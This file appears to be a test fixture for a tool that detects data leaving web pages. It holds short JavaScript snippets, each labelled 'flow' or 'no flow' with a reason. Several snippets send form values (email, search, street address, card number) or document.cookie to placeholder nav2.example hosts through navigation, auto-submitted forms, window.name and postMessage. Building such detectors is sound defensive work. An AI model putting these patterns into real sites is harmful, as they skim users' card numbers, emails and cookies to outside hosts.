//# location-href
// flow: email > go.nav2.example via navigation
location.href = 'https://go.nav2.example/?m=' + encodeURIComponent(document.querySelector('input[type=email]').value);

//# location-hash
// no flow
// why: the fragment is never sent and the page stays
location.hash = 'm=' + encodeURIComponent(document.querySelector('input[type=email]').value);

//# location-assign
// flow: search > as.nav2.example via navigation
const q = document.querySelector('input[type=search]').value;
location.assign('https://as.nav2.example/find?q=' + encodeURIComponent(q));

//# history-push
// no flow
// why: pushState changes the address bar and requests nothing
const q2 = document.querySelector('input[type=search]').value;
history.pushState({ q: q2 }, '', '/find?q=' + encodeURIComponent(q2));

//# location-replace-self
// flow: phone > self via navigation
location.replace('/verify?tel=' + encodeURIComponent(document.querySelector('input[type=tel]').value));

//# location-reload
// no flow
// why: the cookie was read before, reload takes no data from the code
const c = document.cookie;
console.log(c.length);
location.reload();

//# window-open
// flow: address > op.nav2.example via open
const street = document.querySelector('input[autocomplete=street-address]').value;
window.open('https://op.nav2.example/map?a=' + encodeURIComponent(street), '_blank');

//# window-open-features
// no flow
// why: only the size of the new window, computed from fixed numbers, is passed; the address is fixed
const street2 = document.querySelector('input[autocomplete=street-address]').value;
console.log(street2);
window.open('https://op0.nav2.example/map', 'map', 'width=400,height=300');

//# form-built-and-submitted
// flow: card > form.nav2.example via form
const f = document.createElement('form');
f.method = 'POST';
f.action = 'https://form.nav2.example/pay';
const i = document.createElement('input');
i.name = 'cc';
i.value = document.querySelector('input[autocomplete=cc-number]').value;
f.appendChild(i);
document.body.appendChild(f);
f.submit();

//# form-built-not-submitted
// no flow
// why: the form has no button and nobody submits it; it is hidden
const f0 = document.createElement('form');
f0.action = 'https://form0.nav2.example/pay';
f0.hidden = true;
const h0 = document.createElement('input');
h0.type = 'hidden';
h0.name = 'cc';
h0.value = document.querySelector('input[autocomplete=cc-number]').value;
f0.appendChild(h0);
document.body.appendChild(f0);

//# input-without-name
// no flow
// why: a control without a name is not part of the submission
const f3 = document.createElement('form');
f3.action = 'https://noname.nav2.example/pay';
const i3 = document.createElement('input');
i3.value = document.querySelector('input[autocomplete=cc-number]').value;
f3.appendChild(i3);
document.body.appendChild(f3);
f3.submit();

//# postmessage-target-origin
// flow: email > frame.nav2.example via postmessage
const fr = document.querySelector('iframe#pay');
fr.contentWindow.postMessage({ mail: document.querySelector('input[type=email]').value }, 'https://frame.nav2.example');

//# postmessage-fixed
// no flow
// why: the message holds no data of the person
const fr2 = document.querySelector('iframe#pay');
const mail2 = document.querySelector('input[type=email]').value;
if (mail2) fr2.contentWindow.postMessage({ ready: true }, 'https://frame0.nav2.example');

//# window-name-then-navigation
// flow: identifier > wn.nav2.example via window-name
// why: window.name survives the navigation to the other host
window.name = document.cookie;
location.href = 'https://wn.nav2.example/land';

//# title-set
// no flow
// why: the title of the page is no address
document.title = 'Hello ' + document.querySelector('input[autocomplete=name]').value;
location.href = 'https://title0.nav2.example/';

//# postmessage-to-self
// no flow
// why: the message goes to the page's own window and nobody listens
window.postMessage({ mail: document.querySelector('input[type=email]').value }, location.origin);
